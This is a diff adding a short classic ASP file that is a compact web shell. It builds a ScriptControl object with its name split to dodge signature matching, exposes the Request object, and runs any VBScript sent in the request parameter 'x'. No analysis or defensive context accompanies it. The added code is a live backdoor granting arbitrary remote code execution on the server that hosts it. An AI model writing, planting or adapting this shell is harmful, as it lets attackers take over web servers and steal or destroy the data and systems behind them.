@@ -1,0 +1,6 @@
+<%
+Set sc = Server.CreateObject("MSScript" & "Control.ScriptControl")
+sc.Language = "VBScript"
+sc.AddObject "Request", Request
+sc.ExecuteStatement "Execute Request(""x"")"
+%>
